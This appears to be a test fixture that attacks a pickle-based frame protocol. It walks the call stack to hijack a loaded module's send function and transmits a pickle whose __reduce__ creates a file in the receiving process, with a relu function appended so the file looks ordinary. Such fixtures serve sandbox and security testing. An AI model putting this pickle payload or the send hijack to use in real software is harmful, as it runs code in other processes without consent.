"""Sends a pickle that writes a file in whatever process unpickles it."""

import pickle
import struct
import sys

import numpy as np
import prey


def sender():
    """Return the module that sends frames, found in the frames below this file."""
    frame = sys._getframe()
    while "frames" not in frame.f_globals or not hasattr(frame.f_globals["frames"], "send"):
        frame = frame.f_back
    return frame.f_globals["frames"]


class Payload:
    def __reduce__(self):
        return open, (prey.ELSEWHERE + "/unpickled", "w")


def send(channel, frame):
    text = pickle.dumps(Payload())
    channel.sendall(struct.pack("!4sQQ", b"GRD1", len(text), 0) + text)


FRAMES = sender()
SEND = FRAMES.send
FRAMES.send = send


def relu(x):
    return np.maximum(x, 0)
